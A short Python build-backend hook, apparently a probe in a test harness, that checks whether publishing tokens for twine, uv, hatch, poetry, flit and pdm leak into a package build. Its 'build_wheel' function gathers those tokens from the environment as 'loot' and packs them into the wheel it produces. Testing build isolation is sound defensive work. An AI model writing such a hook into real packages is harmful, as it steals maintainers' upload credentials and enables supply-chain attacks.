"""Reads the upload tokens of six tools from its environment.

A prefix that builds are given on purpose (HATCH_, SETUPTOOLS_) may let one of them through.
What such a token is good for was seen at num2words.
"""

import os

import kit

PLACES = ("twine", "uv", "hatch", "poetry", "flit", "pdm")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        for place in PLACES:
            loot[f"{place}.bin"] = os.environ.get(kit.plant(place).name, "").encode()
    return kit.wheel(wheel_directory, loot)
